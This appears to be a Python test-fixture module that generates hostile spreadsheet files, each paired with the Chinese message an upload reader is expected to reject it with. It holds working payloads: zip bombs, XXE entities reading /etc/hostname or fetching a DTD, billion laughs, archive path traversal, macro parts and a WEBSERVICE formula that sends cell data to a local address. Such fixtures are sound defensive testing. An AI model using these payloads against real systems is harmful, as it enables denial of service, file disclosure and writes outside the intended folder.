"""Workbooks made part by part: such as no spreadsheet program makes, and old ones no library here can write.

`xlsx` and `xls` put a file together; `ATTACKS` are hostile ones by name, each with its file name and the Chinese words
of the sentence that refuses it ("" where it is read, because nothing in it does harm).
"""

import io
import struct
import zipfile
from collections.abc import Callable
from functools import cache
from typing import NamedTuple

import msoffcrypto

SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ONE = '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'


def sheet(rows: str, before: str = "", after: str = "") -> str:
    return f'<worksheet xmlns="{SPACE}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'


def xlsx(
    *sheets: str | bytes,
    strings: str = "",
    styles: str = "",
    names: tuple[str, ...] = (),
    states: tuple[str, ...] = (),
    about: str = "",
    kind: str = WORKBOOK_TYPE,
    more: dict[str, str | bytes] | None = None,
) -> bytes:
    """A workbook of sheets given as XML. `about` stands before its list of sheets; `more` are further parts."""
    titles = [*names, *(f"表{n + 1}" for n in range(len(names), len(sheets)))]
    listed = "".join(
        f'<sheet name="{titles[n]}" sheetId="{n + 1}" state="{[*states, *["visible"] * len(sheets)][n]}" r:id="s{n}"/>'
        for n in range(len(sheets))
    )
    related = [(f"s{n}", "worksheet", f"worksheets/sheet{n + 1}.xml") for n in range(len(sheets))]
    related += [("st", "sharedStrings", "sharedStrings.xml"), ("sy", "styles", "styles.xml")]
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": relationships([("w", "officeDocument", "xl/workbook.xml")]),
        "xl/workbook.xml": f'<workbook xmlns="{SPACE}" xmlns:r="{OFFICE}">{about}<sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relationships(related),
        "xl/sharedStrings.xml": f'<sst xmlns="{SPACE}">{strings}</sst>',
        "xl/styles.xml": f'<styleSheet xmlns="{SPACE}">{styles}</styleSheet>',
    }
    parts |= {f"xl/worksheets/sheet{n + 1}.xml": body for n, body in enumerate(sheets)}
    return zipped(parts | (more or {}))


def relationships(related: list[tuple[str, str, str]]) -> str:
    each = "".join(f'<Relationship Id="{a}" Type="{OFFICE}/{kind}" Target="{to}"/>' for a, kind, to in related)
    return f'<Relationships xmlns="{PACKAGE}/relationships">{each}</Relationships>'


def zipped(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()


def locked(content: bytes, password: str = "a") -> bytes:
    out = io.BytesIO()
    msoffcrypto.OfficeFile(io.BytesIO(content)).encrypt(password, out)
    return out.getvalue()


# An .xls: numbered records in a stream of a small file system.

Records = list[tuple[int, bytes]]
BEGINS_BOOK, BEGINS_SHEET, ENDS = (
    (0x809, struct.pack("<HH12x", 0x600, 5)),
    (0x809, struct.pack("<HH12x", 0x600, 16)),
    (10, b""),
)
DAY_STYLE = 1


def text(row: int, column: int, said: str) -> tuple[int, bytes]:
    units = said.encode("utf-16-le")
    return 0x204, struct.pack("<HHHHB", row, column, 0, len(units) // 2, 1) + units


def number(row: int, column: int, value: float, style: int = 0) -> tuple[int, bytes]:
    return 0x203, struct.pack("<HHHd", row, column, style, value)


def computed(row: int, column: int, value: float) -> tuple[int, bytes]:
    return 0x006, struct.pack("<HHHdHIH", row, column, 0, value, 0, 0, 3) + b"\x1e\x01\x00"


def hidden_row(row: int) -> tuple[int, bytes]:
    return 0x208, struct.pack("<HHHHHHHH", row, 0, 0, 0x100, 0, 0, 0x20, 0)


def hidden_columns(first: int, last: int) -> tuple[int, bytes]:
    return 0x07D, struct.pack("<HHHHHH", first, last, 0x900, 0, 1, 0)


def joined(top: int, bottom: int, left: int, right: int) -> tuple[int, bytes]:
    return 0x0E5, struct.pack("<HHHHH", 1, top, bottom, left, right)


def xls(
    *sheets: Records, hidden: tuple[int, ...] = (), before: Records | None = None, storages: tuple[str, ...] = ()
) -> bytes:
    styles = [(0x0E0, struct.pack("<HHH14x", 0, form, 0)) for form in (0, 14)]
    head = [BEGINS_BOOK, *(before or []), *styles]
    bodies = [_stream([BEGINS_SHEET, *records, ENDS]) for records in sheets]
    titles = [f"表{n + 1}" for n in range(len(sheets))]
    at = len(_stream(head)) + sum(12 + 2 * len(title) for title in titles) + 4
    for n, title in enumerate(titles):
        said = struct.pack("<IBBBB", at, int(n in hidden), 0, len(title), 1) + title.encode("utf-16-le")
        head.append((0x085, said))
        at += len(bodies[n])
    return compound({"Workbook": _stream([*head, ENDS]) + b"".join(bodies)}, storages)


def _stream(records: Records) -> bytes:
    return b"".join(struct.pack("<HH", kind, len(body)) + body for kind, body in records)


def compound(streams: dict[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A file system of sectors of 512 bytes: a table of sectors, a directory, then the streams one after another."""
    nothing, free, end, table = 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    padded = {name: content.ljust(max(4096, -(-len(content) // 512) * 512), b"\0") for name, content in streams.items()}
    entries = [("Root Entry", 5, end, 0), *((name, 1, end, 0) for name in storages)]
    directory_sectors = -(-(len(entries) + len(streams)) // 4)
    sectors = directory_sectors + sum(len(content) // 512 for content in padded.values())
    tables = -(-(sectors + 200) // 128)
    chain = [table] * tables
    chain += [*range(tables + 1, tables + directory_sectors), end]
    for name, content in padded.items():
        first, count = len(chain), len(content) // 512
        entries.append((name, 2, first, len(content)))
        chain += [*range(first + 1, first + count), end]
    chain += [free] * (tables * 128 - len(chain))
    directory = b""
    for n, (name, kind, first, size) in enumerate(entries):
        following = n + 1 if 0 < n < len(entries) - 1 else nothing
        spelled = (name + "\0").encode("utf-16-le")
        directory += spelled.ljust(64, b"\0") + struct.pack(
            "<HBBIII36xIII", len(spelled), kind, 1, nothing, following, nothing if n else 1, first, size, 0
        )
    directory = directory.ljust(directory_sectors * 512, b"\0")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + struct.pack(
        "<16xHHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, tables, tables, 0, 4096, end, 0, end, 0
    )
    head += struct.pack(f"<{tables}I", *range(tables)).ljust(436, b"\xff")
    return head + struct.pack(f"<{len(chain)}I", *chain) + directory + b"".join(padded.values())


# Hostile files.


class Attack(NamedTuple):
    name: str
    made: Callable[[], bytes]
    said: str


ATTACKS: dict[str, Attack] = {}


def attack(said: str, name: str = "表.xlsx") -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Enters the function that makes it; what is large is made once."""

    def entered(made: Callable[[], bytes]) -> Callable[[], bytes]:
        ATTACKS[made.__name__] = Attack(name, cache(made), said)
        return made

    return entered


@attack("解开后远大于")
def bomb_in_one_string() -> bytes:
    return xlsx(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings=f"<si><t>{'重' * 30_000_000}</t></si>")


@attack("解开后远大于")
def bomb_that_stays_below_the_size_but_not_the_ratio() -> bytes:
    return xlsx(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings=f"<si><t>{'a' * 40_000_000}</t></si>")


@attack("已损坏")
def bomb_that_lies_about_its_size() -> bytes:
    """Its heads say a thousand bytes: whoever believes them unpacks without end."""
    content = xlsx(sheet(ONE), more={"xl/sharedStrings.xml": "<sst>" + " " * 70_000_000 + "</sst>"})
    size = struct.pack("<I", 70_000_011)
    assert content.count(size) == 2
    return content.replace(size, struct.pack("<I", 1000))


@attack("解开后远大于")
def thousand_parts() -> bytes:
    return xlsx(sheet(ONE), more={f"xl/media/{n}.png": b"" for n in range(1000)})


@attack("内容太多")
def long_text_named_by_a_million_cells() -> bytes:
    cells = [f'<c r="{letter}{{row}}" t="s"><v>0</v></c>' for letter in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"]
    rows = "".join(f'<row r="{n}">{"".join(cells).replace("{row}", str(n))}</row>' for n in range(1, 20_001))
    return xlsx(sheet(rows), strings=f"<si><t>{'长' * 1990}</t></si>")


@attack("最多读 20000 行")
def million_rows() -> bytes:
    return xlsx(sheet("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 1_000_001))))


@attack("")
def million_blank_rows_with_a_style() -> bytes:
    blank = "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(2, 1_000_001))
    return xlsx(sheet(ONE + blank), styles='<cellXfs><xf numFmtId="0"/></cellXfs>')


@attack("一直写到 XFD1048576")
def cell_in_the_farthest_corner() -> bytes:
    return xlsx(sheet(f'{ONE}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


@attack("")
def blank_cell_in_the_farthest_corner() -> bytes:
    return xlsx(sheet(f'{ONE}<row r="1048576"><c r="XFD1048576" s="0"/><c r="XFC1048576"></c></row>'))


@attack("一直写到 XFD1048576")
def far_cell_in_a_row_that_is_near() -> bytes:
    return xlsx(sheet('<row r="1"><c r="A1"><v>1</v></c><c s="0" r=\'XFD1048576\'><v>1</v></c></row>'))


@attack("一直写到 XFD1048576")
def far_cell_behind_a_prefix() -> bytes:
    far = '<zz:row r="1048576"><zz:c r="XFD1048576"><zz:v>1</zz:v></zz:c></zz:row>'
    return xlsx(sheet(ONE + far).replace("<worksheet", '<worksheet xmlns:zz="x"', 1))


@attack("已损坏")
def column_beyond_every_program() -> bytes:
    return xlsx(sheet('<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>'))


@attack("已损坏")
def row_beyond_every_program() -> bytes:
    return xlsx(sheet('<row r="1"><c r="A99999999999999999999"><v>1</v></c></row>'))


@attack("")
def dimension_that_lies() -> bytes:
    return xlsx(sheet(ONE, before='<dimension ref="A1:XFD1048576"/>'))


@attack("最多读 80 列")
def row_of_sixteen_thousand_cells() -> bytes:
    return xlsx(sheet("<row>" + "<c><v>1</v></c>" * 16_384 + "</row>"))


@attack("已损坏")
def spans_on_top_of_each_other() -> bytes:
    spans = "".join(f'<mergeCell ref="A1:CB{n}"/>' for n in range(2, 20_000))
    return xlsx(sheet(ONE, after=f"<mergeCells>{spans}</mergeCells>"))


@attack("")
def one_span_over_everything() -> bytes:
    return xlsx(sheet(ONE, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'))


@attack("不像是表格软件")
def entity_from_a_file() -> bytes:
    kind = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    return xlsx(kind + sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>'))


@attack("不像是表格软件")
def entity_from_the_net() -> bytes:
    return xlsx(sheet(ONE), more={"xl/sharedStrings.xml": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><sst/>'})


@attack("不像是表格软件")
def billion_laughs() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return xlsx(
        sheet(ONE), more={"xl/workbook.xml": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><workbook>&l9;</workbook>'}
    )


@attack("不像是表格软件")
def document_type_in_other_letters() -> bytes:
    kind = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]>'
    return xlsx((kind + sheet(ONE)).encode("utf-16"))


@attack("不像是表格软件")
def elements_a_hundred_thousand_deep() -> bytes:
    return xlsx(sheet("<!-- -->" + "<x>" * 100_000 + "</x>" * 100_000 + ONE))


@attack("")
def elements_deep_in_a_usual_sheet() -> bytes:
    return xlsx(sheet(ONE + "<x>" * 100_000 + "</x>" * 100_000))


@attack("")
def formulas() -> bytes:
    said = ["1+1", 'HYPERLINK("http://127.0.0.1:9/","x")', 'WEBSERVICE("http://127.0.0.1:9/"&amp;A1)', "[1]Sheet1!A1"]
    cells = "".join(f'<c r="{"BCDE"[n]}1"><f>{text}</f><v>7</v></c>' for n, text in enumerate(said))
    return xlsx(sheet(ONE.replace("</row>", f"{cells}</row>")))


@attack("有宏")
def macro() -> bytes:
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return xlsx(sheet(ONE), kind=kind, more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@attack("有宏", "表.xlsm")
def macro_without_its_part() -> bytes:
    return xlsx(sheet(ONE), kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml")


@attack("有宏")
def macro_under_another_name() -> bytes:
    return xlsx(sheet(ONE), more={"xl/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"})


@attack("有宏")
def macro_sheet() -> bytes:
    content = xlsx(sheet(ONE), sheet(ONE))
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        parts: dict[str, str | bytes] = {name: file.read(name) for name in file.namelist()}
    related = [("s0", "worksheet", "worksheets/sheet1.xml"), ("s1", "xlMacrosheet", "worksheets/sheet2.xml")]
    return zipped(parts | {"xl/_rels/workbook.xml.rels": relationships(related)})


@attack("引用了其他工作簿")
def link_to_another_workbook() -> bytes:
    return xlsx(sheet(ONE), more={"xl/externalLinks/externalLink1.xml": "<externalLink/>"})


@attack("引用了其他工作簿")
def connection_to_a_database() -> bytes:
    return xlsx(sheet(ONE), more={"xl/connections.xml": "<connections/>"})


@attack("嵌着别的文档")
def embedded_document() -> bytes:
    return xlsx(sheet(ONE), more={"xl/embeddings/oleObject1.bin": b"x"})


@attack("不像是表格软件")
def path_out_of_the_folder() -> bytes:
    return xlsx(sheet(ONE), more={"../../evil.xml": "x"})


@attack("不像是表格软件")
def path_out_of_the_folder_by_backslashes() -> bytes:
    return xlsx(sheet(ONE), more={"xl\\..\\..\\evil.xml": "x"})


@attack("不像是表格软件")
def path_from_the_root() -> bytes:
    return xlsx(sheet(ONE), more={"/etc/evil.xml": "x"})


@attack("不像是表格软件")
def same_part_twice() -> bytes:
    return xlsx(sheet(ONE), more={"XL/worksheets/SHEET1.xml": sheet(ONE.replace("姓名", "另一个"))})


@attack("加了密码")
def locked_with_a_password() -> bytes:
    return locked(xlsx(sheet(ONE)))


@attack("加了密码")
def locked_archive() -> bytes:
    content = bytearray(xlsx(sheet(ONE)))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + flags] |= 1
    return bytes(content)


@attack("已损坏")
def cut_off() -> bytes:
    return xlsx(sheet(ONE))[:-40]


@attack("已损坏")
def cut_in_the_middle_of_a_part() -> bytes:
    content = bytearray(
        xlsx(sheet("".join(f'<row r="{n}"><c r="A{n}"><v>{n * n}</v></c></row>' for n in range(1, 900))))
    )
    content[-4000:-3500] = bytes(500)
    return bytes(content)


@attack("是空的")
def empty() -> bytes:
    return b""


@attack("是空的", "表.csv")
def empty_text() -> bytes:
    return b"\r\n \r\n"


@attack("什么也没有")
def empty_sheets() -> bytes:
    return xlsx(sheet(""), sheet('<row r="1"><c r="A1" s="0"/></row>'))


@attack("超过 10 MB")
def too_large() -> bytes:
    return b"PK\x03\x04" + bytes(10 * 1024 * 1024)


@attack("已损坏")
def number_of_a_text_that_is_not_there() -> bytes:
    return xlsx(sheet('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>'))


@attack("已损坏")
def words_where_yes_or_no_should_stand() -> bytes:
    return xlsx(sheet('<row r="1"><c r="A1" t="b"><v>也许</v></c></row>'))


@attack("")
def words_where_a_number_should_stand() -> bytes:
    return xlsx(sheet('<row r="1"><c r="A1"><v>八十三</v></c><c r="B1"><v>1</v></c></row>'))


@attack("已损坏")
def cell_of_a_kind_nobody_knows() -> bytes:
    return xlsx(sheet('<row r="1"><c r="A1" t="nonsense"><v>1</v></c></row>'))


@attack("")
def numbers_that_are_none() -> bytes:
    values = ("NaN", "inf", "-Infinity", "1e999", "1E+17")
    return xlsx(
        sheet('<row r="1">' + "".join(f'<c r="{"ABCDE"[n]}1"><v>{v}</v></c>' for n, v in enumerate(values)) + "</row>")
    )


@attack("")
def characters_no_xml_has() -> bytes:
    return xlsx(sheet(ONE.replace("姓名", "前\x01\x0b_x0000__x0008_\u202e后")))


@attack("已损坏")
def reference_to_a_character_no_xml_has() -> bytes:
    return xlsx(sheet(ONE.replace("姓名", "&#x0;")))


@attack("已损坏")
def letters_that_are_no_utf8() -> bytes:
    return xlsx(
        sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>@@</t></is></c></row>').encode().replace(b"@@", b"\xff\xc3")
    )


@attack("超过 2000 字")
def cell_of_ten_thousand_characters() -> bytes:
    return xlsx(sheet(ONE.replace("姓名", "长" * 10_000)))


@attack("")
def sheet_named_with_controls() -> bytes:
    return xlsx(sheet(ONE), names=("&#9;台\u202e账&#10;![x](http://127.0.0.1:9/x.png)",))


@attack("最多读 20000 行")
def far_cell_in_a_sheet_named_like_a_picture() -> bytes:
    return xlsx(sheet('<row r="30000"><c r="A30000"><v>1</v></c></row>'), names=("![x](http://127.0.0.1:9/x.png)",))


@attack("已损坏")
def thousand_sheets_that_are_not_there() -> bytes:
    listed = "".join(f'<sheet name="{n}" sheetId="{n}" r:id="s0"/>' for n in range(1, 150))
    book = f'<workbook xmlns="{SPACE}" xmlns:r="{OFFICE}"><sheets>{listed}</sheets></workbook>'
    return xlsx(
        more={"xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": relationships([("s0", "worksheet", "no.xml")])}
    )


@attack("网页", "表.xls")
def web_page_as_xls() -> bytes:
    return '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table><tr><td>姓名</td></tr></table>'.encode()


@attack("网页", "表.xlsx")
def web_page_in_two_byte_letters() -> bytes:
    return "<table><tr><td>姓名</td></tr></table>".encode("utf-16")


@attack("XML 格式", "表.xls")
def xml_of_2003() -> bytes:
    return b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'


@attack("xlsb")
def binary_workbook() -> bytes:
    return xlsx(sheet(ONE), kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main")


@attack("OpenDocument", "表.ods")
def open_document() -> bytes:
    return zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"})


@attack("文字文档", "表.xlsx")
def text_document() -> bytes:
    return zipped(
        {"_rels/.rels": relationships([("d", "officeDocument", "word/document.xml")]), "word/document.xml": "<x/>"}
    )


@attack("压缩包", "表.zip")
def archive_of_workbooks() -> bytes:
    return zipped({"台账.xlsx": xlsx(sheet(ONE))})


@attack("图片或 PDF", "表.csv")
def picture() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(100)


@attack("读不出表格", "表.csv")
def text_with_nul() -> bytes:
    return "姓名,电话\n王\0,1\n".encode()


@attack("读不出表格", "表.xlsx")
def program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8


@attack("编码", "表.csv")
def letters_of_no_encoding() -> bytes:
    return b"name,note\n\xff\xff\xff,1\n"


@attack("超过 2000 字", "表.csv")
def line_of_a_million_characters() -> bytes:
    return b"a,b\n" + b"x" * 1_000_000 + b",1\n"


@attack("最多读 80 列", "表.csv")
def line_of_a_million_cells() -> bytes:
    return b"a,b\n" + b"1," * 1_000_000 + b"\n"


@attack("最多读 20000 行", "表.csv")
def text_of_a_million_lines() -> bytes:
    return b"1,2\n" * 1_000_000


@attack("超过 2000 字", "表.csv")
def only_quotation_marks() -> bytes:
    return b'"' * 1_000_001


@attack("一直写到 IV65536", "表.xls")
def old_cell_in_the_farthest_corner() -> bytes:
    return xls([text(0, 0, "姓名"), number(65535, 255, 1)])


@attack("加了密码", "表.xls")
def old_and_locked() -> bytes:
    return xls([text(0, 0, "姓名")], before=[(0x02F, bytes(54))])


@attack("有宏", "表.xls")
def old_with_macros() -> bytes:
    return xls([text(0, 0, "姓名")], storages=("_VBA_PROJECT_CUR",))


@attack("引用了其他工作簿", "表.xls")
def old_with_a_link() -> bytes:
    said = struct.pack("<HHB", 1, 5, 0) + b"a.xls"
    return xls([text(0, 0, "姓名")], before=[(0x1AE, said)])


@attack("嵌着别的文档", "表.xls")
def old_with_an_embedded_document() -> bytes:
    return xls([text(0, 0, "姓名")], storages=("MBD0001A2B3",))


@attack("文字文档", "表.xls")
def old_text_document() -> bytes:
    return compound({"WordDocument": b"x"})


@attack("已损坏", "表.xls")
def old_and_cut_off() -> bytes:
    return xls([text(n, 0, "姓名") for n in range(900)])[:3000]


@attack("已损坏", "表.xls")
def old_file_that_goes_in_circles() -> bytes:
    content = bytearray(xls([text(n, 0, "姓名") for n in range(900)]))
    content[512 + 4 * 10 : 512 + 4 * 11] = struct.pack("<I", 5)
    return bytes(content)
